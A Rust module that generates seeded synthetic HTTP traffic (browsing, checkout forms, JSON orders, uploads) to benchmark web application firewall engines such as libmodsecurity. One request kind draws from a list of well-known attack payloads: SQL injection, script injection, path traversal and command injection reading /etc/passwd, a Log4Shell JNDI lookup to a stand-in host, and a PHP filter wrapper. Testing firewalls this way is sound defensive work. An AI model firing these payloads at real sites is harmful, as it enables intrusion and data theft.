//! Requests of each kind, made by code from a seed, as `peers/libmodsecurity/driver.c` reads them.
//!
//! No two have the same parameters or the same session, and each kind is more than our engine
//! remembers of values: what it knows from a round before helps it no more than it would with
//! as many different visitors.

use std::fmt::Write;
use std::path::{Path, PathBuf};

/// Requests of one kind in a file.
pub(crate) struct Mix {
    pub(crate) name: &'static str,
    pub(crate) file: PathBuf,
    pub(crate) requests: f64,
    /// The first of them, for engines that take long.
    pub(crate) short: PathBuf,
    pub(crate) short_requests: f64,
    pub(crate) attacks: bool,
}

/// A request, and the response to it where the phases of responses are measured.
pub(crate) struct Request {
    pub(crate) method: &'static str,
    pub(crate) target: String,
    pub(crate) headers: Vec<(String, String)>,
    pub(crate) body: String,
    response: Option<String>,
}

impl AsRef<Path> for Mix {
    fn as_ref(&self) -> &Path {
        &self.file
    }
}

type Make = fn(&mut Seed) -> Request;

const MIXES: &[(&str, u32, Make)] = &[
    ("mixed", 600, mixed),
    ("GET", 600, get),
    ("form", 400, form),
    ("JSON, 2 kB", 100, |seed| order(seed, 31)),
    ("JSON, 64 kB", 12, |seed| order_with_texts(seed, 240)),
    ("multipart", 200, |seed| upload(seed, 600)),
    ("upload, 64 kB", 12, |seed| upload(seed, 10_000)),
    ("GET with its page", 200, page),
    ("attacks", 600, attack),
];
/// The part of them that is written apart.
const SHORT: u32 = 20;

const WORDS: &[&str] = &[
    "garden", "chair", "blue", "large", "oak", "table", "lamp", "kitchen", "wooden", "outdoor",
    "metal", "soft", "warm", "winter", "summer", "price", "street", "city", "gift", "paper",
];

/// With a number for each `#`.
const ATTACKS: &[&str] = &[
    "#%27%20or%20%27#%27=%27#",
    "%3Cscript%3Ealert(#)%3C/script%3E",
    "../../../../etc/passwd%00#",
    "#;cat%20/etc/passwd",
    "#%20union%20select%20password#%20from%20users",
    "%24%7Bjndi:ldap://x#.example/a%7D",
    "php://filter/convert.base64-encode/resource=index#",
    "%7B%7B#*#%7D%7D%3Cimg%20src=x#%20onerror=alert(#)%3E",
];

/// Writes each mix to a file of the folder.
pub(crate) fn write(folder: &Path) -> anyhow::Result<Vec<Mix>> {
    let mut seed = Seed(5);
    let mut mixes = Vec::new();
    for (at, (name, count, make)) in MIXES.iter().enumerate() {
        let requests: Vec<Request> = (0..*count).map(|_| make(&mut seed)).collect();
        let few = count.div_ceil(SHORT);
        let short = requests.get(..few as usize).unwrap_or_default();
        let mix = Mix {
            name,
            file: folder.join(format!("mix-{at}")),
            requests: f64::from(*count),
            short: folder.join(format!("mix-{at}-short")),
            short_requests: f64::from(few),
            attacks: *name == "attacks",
        };
        std::fs::write(&mix.file, written(&requests))?;
        std::fs::write(&mix.short, written(short))?;
        mixes.push(mix);
    }
    Ok(mixes)
}

/// So many requests of the mixed kind.
pub(crate) fn ordinary(count: usize) -> Vec<Request> {
    requests(count, mixed)
}

/// So many of a browser.
pub(crate) fn gets(count: usize) -> Vec<Request> {
    requests(count, get)
}

/// So many orders of 2 kB of JSON.
pub(crate) fn orders(count: usize) -> Vec<Request> {
    requests(count, |seed| order(seed, 31))
}

fn requests(count: usize, make: Make) -> Vec<Request> {
    let mut seed = Seed(5);
    (0..count).map(|_| make(&mut seed)).collect()
}

/// As the engines' processes read them.
pub(crate) fn written(requests: &[Request]) -> Vec<u8> {
    let mut bytes = Vec::new();
    for request in requests {
        request.write(&mut bytes);
    }
    bytes
}

impl Request {
    /// Bytes of all its texts.
    pub(crate) fn len(&self) -> usize {
        let headers = self.headers.iter();
        let headers: usize = headers.map(|(name, value)| name.len() + value.len()).sum();
        self.method.len() + self.target.len() + headers + self.body.len()
    }

    /// As HTTP/1.1 has it.
    pub(crate) fn http(&self) -> Vec<u8> {
        let mut text = format!("{} {} HTTP/1.1\r\n", self.method, self.target);
        for (name, value) in &self.headers {
            text += &format!("{name}: {value}\r\n");
        }
        format!("{text}\r\n{}", self.body).into_bytes()
    }

    fn write(&self, bytes: &mut Vec<u8>) {
        for text in [self.method, &self.target, "1.1"] {
            field(bytes, text);
        }
        let headers = self.headers.iter();
        write_headers(bytes, headers.map(|(name, value)| (&**name, &**value)));
        field(bytes, &self.body);
        // 0: there is none.
        let status: u32 = if self.response.is_some() { 200 } else { 0 };
        bytes.extend_from_slice(&status.to_le_bytes());
        if let Some(page) = &self.response {
            let length = page.len().to_string();
            let headers = [
                ("Content-Type", "text/html"),
                ("Cache-Control", "no-cache"),
                ("Server", "shop"),
                ("Content-Length", &length),
            ];
            write_headers(bytes, headers.into_iter());
            field(bytes, page);
        }
    }
}

fn write_headers<'a>(
    bytes: &mut Vec<u8>,
    headers: impl ExactSizeIterator<Item = (&'a str, &'a str)>,
) {
    bytes.extend_from_slice(&(headers.len() as u32).to_le_bytes());
    for (name, value) in headers {
        field(bytes, name);
        field(bytes, value);
    }
}

/// splitmix64.
pub(crate) struct Seed(u64);

impl Seed {
    pub(crate) fn new(seed: u64) -> Self {
        Self(seed)
    }

    pub(crate) fn below(&mut self, most: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        ((mixed ^ (mixed >> 31)) % most.max(1) as u64) as usize
    }

    pub(crate) fn one<'a>(&mut self, of: &[&'a str]) -> &'a str {
        of.get(self.below(of.len())).copied().unwrap_or_default()
    }

    pub(crate) fn words(&mut self, count: usize, between: &str) -> String {
        let words: Vec<&str> = (0..count).map(|_| self.one(WORDS)).collect();
        words.join(between)
    }
}

fn mixed(seed: &mut Seed) -> Request {
    match seed.below(5) {
        0..3 => get(seed),
        3 => form(seed),
        _ => order(seed, 3),
    }
}

fn get(seed: &mut Seed) -> Request {
    let path = seed.one(&[
        "/catalogue",
        "/products/chairs/",
        "/api/v1/items",
        "/search",
    ]);
    let target = format!(
        "{path}?q={}&page={}&sort={}&ref={:08x}",
        seed.words(2, "+"),
        seed.below(90),
        seed.one(&["price", "name", "date"]),
        seed.below(1 << 32)
    );
    request(seed, "GET", &target, None)
}

fn attack(seed: &mut Seed) -> Request {
    let number = seed.below(1 << 32).to_string();
    let attack = seed.one(ATTACKS).replace('#', &number);
    let target = format!("/search?q={attack}&page={}", seed.below(90));
    request(seed, "GET", &target, None)
}

fn form(seed: &mut Seed) -> Request {
    let body = format!(
        "name={}&email=ann.{}%40example.org&street={}+Long+Street&city=Springfield&zip={:05}&note={}.&csrf={:016x}",
        seed.words(2, "+"),
        seed.below(999),
        seed.below(99),
        seed.below(99_999),
        seed.words(12, "+"),
        seed.below(usize::MAX)
    );
    let kind = "application/x-www-form-urlencoded";
    request(seed, "POST", "/checkout/address", Some((kind, &body)))
}

/// A document with three leaves for each item, and five more.
fn order(seed: &mut Seed, items: usize) -> Request {
    let mut body = format!("{{\"order\":\"{:08x}\",\"items\":[", seed.below(1 << 32));
    for item in 0..items {
        let comma = if item == 0 { "" } else { ", " };
        // A string takes whatever is written.
        let _: std::fmt::Result = write!(
            body,
            "{comma}{{\"sku\": \"{}-{}\", \"qty\": {}, \"price\": {}.{:02}}}",
            seed.one(WORDS),
            seed.below(9999),
            seed.below(9) + 1,
            seed.below(999),
            seed.below(100)
        );
    }
    closed(seed, body)
}

/// The same with a text for each item: less leaves than the engines' limits, more bytes.
fn order_with_texts(seed: &mut Seed, items: usize) -> Request {
    let mut body = format!("{{\"order\":\"{:08x}\",\"items\":[", seed.below(1 << 32));
    for item in 0..items {
        let comma = if item == 0 { "" } else { ", " };
        let _: std::fmt::Result = write!(
            body,
            "{comma}{{\"sku\": \"{}-{}\", \"qty\": {}, \"text\": \"{}.\"}}",
            seed.one(WORDS),
            seed.below(9999),
            seed.below(9) + 1,
            seed.words(36, " ")
        );
    }
    closed(seed, body)
}

fn closed(seed: &mut Seed, mut body: String) -> Request {
    let _: std::fmt::Result = write!(
        body,
        "],\"customer\":{{\"name\":\"{}\",\"email\":\"ann@example.net\"}},\"note\":\"{}\",\"total\":{}}}",
        seed.words(2, " "),
        seed.words(8, " "),
        seed.below(9999)
    );
    request(
        seed,
        "POST",
        "/api/v1/orders",
        Some(("application/json", &body)),
    )
}

fn upload(seed: &mut Seed, words: usize) -> Request {
    let part = |head: &str, content: &str| {
        format!("--form-boundary-7\r\nContent-Disposition: form-data; {head}\r\n\r\n{content}\r\n")
    };
    let body = [
        part("name=\"title\"", &seed.words(3, " ")),
        part("name=\"album\"", &seed.below(999).to_string()),
        part(
            "name=\"photo\"; filename=\"garden.txt\"\r\nContent-Type: text/plain",
            &seed.words(words, " "),
        ),
        "--form-boundary-7--\r\n".to_owned(),
    ]
    .concat();
    let kind = "multipart/form-data; boundary=form-boundary-7";
    request(seed, "POST", "/albums/photos", Some((kind, &body)))
}

/// What is answered is looked at, too.
fn page(seed: &mut Seed) -> Request {
    let items: String = (0..80)
        .map(|_| {
            format!(
                "<li class=\"item\"><a href=\"/products/{}\">{}</a> {}.95</li>\n",
                seed.below(9999),
                seed.words(6, " "),
                seed.below(99)
            )
        })
        .collect();
    let page = format!("<!doctype html><title>Catalogue</title><ul>\n{items}</ul>\n");
    Request {
        response: Some(page),
        ..get(seed)
    }
}

/// With a browser's twelve headers, and those of a body.
pub(crate) fn request(
    seed: &mut Seed,
    method: &'static str,
    target: &str,
    body: Option<(&str, &str)>,
) -> Request {
    let referer = format!("https://shop.example.org/catalogue?page={}", seed.below(90));
    let cookie = format!(
        "session={:016x}{:016x}; theme=dark; cart={}-{}-{}",
        seed.below(usize::MAX),
        seed.below(usize::MAX),
        seed.below(99),
        seed.below(9),
        seed.below(999),
    );
    let mut headers = vec![
        ("Host", "shop.example.org"),
        (
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        ),
        (
            "Accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8",
        ),
        ("Accept-Language", "en-US,en;q=0.5"),
        ("Accept-Encoding", "gzip, deflate, br"),
        ("Referer", &*referer),
        ("Cookie", &*cookie),
        ("Connection", "keep-alive"),
        ("Upgrade-Insecure-Requests", "1"),
        ("Sec-Fetch-Dest", "document"),
        ("Sec-Fetch-Mode", "navigate"),
        ("Cache-Control", "max-age=0"),
    ];
    let (kind, body) = body.unwrap_or_default();
    let length = body.len().to_string();
    if !body.is_empty() {
        headers.push(("Content-Type", kind));
        headers.push(("Content-Length", &length));
    }
    let owned = |(name, value): (&str, &str)| (name.to_owned(), value.to_owned());
    Request {
        method,
        target: target.to_owned(),
        headers: headers.into_iter().map(owned).collect(),
        body: body.to_owned(),
        response: None,
    }
}

fn field(bytes: &mut Vec<u8>, text: &str) {
    bytes.extend_from_slice(&(text.len() as u32).to_le_bytes());
    bytes.extend_from_slice(text.as_bytes());
}
